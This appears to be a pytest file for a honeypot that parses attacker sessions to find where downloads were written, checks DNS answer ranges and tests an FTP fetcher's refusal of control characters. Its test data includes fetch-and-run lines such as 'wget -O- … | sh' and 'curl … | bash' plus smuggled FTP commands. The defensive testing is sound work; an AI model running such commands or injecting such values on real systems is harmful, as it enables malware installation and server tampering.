"""destfile: the path a box's client wrote a download to, read from the session's command lines; the DNS
answer ranges; the FTP fetcher's refusal of control characters."""

from __future__ import annotations

import ipaddress
from collections import Counter

import pytest

from sandtrap.config import EgressSettings, NetworkSettings
from sandtrap.events import COMMAND_INPUT, Event
from sandtrap.network import dns
from sandtrap.network.downloads import CommandLog, destfile
from sandtrap.network.fetcher import Fetcher, Refused

URL = "http://cdn.example.com/bins/x86.sh"


def test_wget_and_curl_as_they_name_their_output() -> None:
    cases = {
        "wget http://cdn.example.com/bins/x86.sh": "x86.sh",
        "cd /tmp; wget -q -O /tmp/a http://cdn.example.com/bins/x86.sh && chmod +x /tmp/a": "/tmp/a",
        "wget -O- http://cdn.example.com/bins/x86.sh | sh": "",
        "wget --output-document=b.sh cdn.example.com/bins/x86.sh": "b.sh",
        "wget -P /var/tmp http://cdn.example.com/bins/x86.sh": "/var/tmp/x86.sh",
        "/usr/bin/busybox wget http://cdn.example.com/bins/x86.sh -O /dev/shm/k": "/dev/shm/k",
        "curl -s http://cdn.example.com/bins/x86.sh -o c": "c",
        "curl -sO http://cdn.example.com/bins/x86.sh": "x86.sh",
        "curl http://cdn.example.com/bins/x86.sh | bash": "",
        "sudo curl --output=/root/z http://cdn.example.com/bins/x86.sh": "/root/z",
        "wget http://other.example.com/bins/x86.sh": "",
        "wget http://cdn.example.com/bins/arm7": "",
        'sh -c "unterminated': "",
    }
    for line, want in cases.items():
        assert destfile(URL, [line]) == want, line


def test_tftp_and_ftpget_as_busybox_and_tftp_hpa_read_their_arguments() -> None:
    tftp = "tftp://tftp.example.com/mips"
    assert destfile(tftp, ["busybox tftp -g -r mips tftp.example.com"]) == "mips"
    assert destfile(tftp, ["tftp -g -l /tmp/m -r mips tftp.example.com"]) == "/tmp/m"
    assert destfile(tftp, ["tftp tftp.example.com -c get mips /tmp/n"]) == "/tmp/n"
    assert destfile(tftp, ["tftp -g -r arm tftp.example.com"]) == ""
    ftp = "ftp://bot@ftp.example.com/bins/x86"
    assert destfile(ftp, ["busybox ftpget -u bot -p pw ftp.example.com /tmp/f bins/x86"]) == "/tmp/f"
    assert destfile(ftp, ["ftpget ftp.example.com bins/x86"]) == "x86"


def test_the_newest_line_and_a_lines_commands_in_turn() -> None:
    log = CommandLog()
    for line in ("wget -O /old http://cdn.example.com/bins/x86.sh", f"wget -O /a {URL}; curl -o /b {URL}"):
        log.write(Event(eventid=COMMAND_INPUT, session="s1", input=line))
    # Each command once (an older line's may be a download still running), then the newest again.
    assert [log.destfile("s1", URL) for _ in range(4)] == ["/a", "/b", "/old", "/a"]
    assert log.destfile("s2", URL) == ""
    log.forget("s1")
    assert log.destfile("s1", URL) == ""


def test_answers_spread_over_the_default_ranges_and_stay_put() -> None:
    ranges = tuple(ipaddress.IPv4Network(x) for x in NetworkSettings().dns.answer_subnet)
    assert len(ranges) >= 10 and all(r.is_global for r in ranges)
    names = dns.Names(ranges, b"k" * 32)
    answers = [ipaddress.IPv4Address(names.address(f"h{i}.example.com")) for i in range(400)]
    used = Counter(next(r for r in ranges if a in r) for a in answers)
    assert len(used) == len(ranges) and max(used.values()) < 60  # every range, none dominant
    assert all(names.address(f"h{i}.example.com") == str(answers[i]) for i in range(400))
    assert NetworkSettings(dns={"answer_subnet": "198.18.0.0/15"}).dns.answer_subnet == ["198.18.0.0/15"]


async def test_an_ftp_path_or_login_with_a_control_character_is_never_sent_on() -> None:
    fetcher = Fetcher(EgressSettings(allow=["127.0.0.1/32"]))
    for path, user in (("/a\rDELE b", ""), ("/a", "bot\r\nSITE x"), ("/a\x00", "")):
        with pytest.raises(Refused, match="control character"):
            await fetcher.fetch_ftp("127.0.0.1", path, user, "", 1024)  # refused before any connection
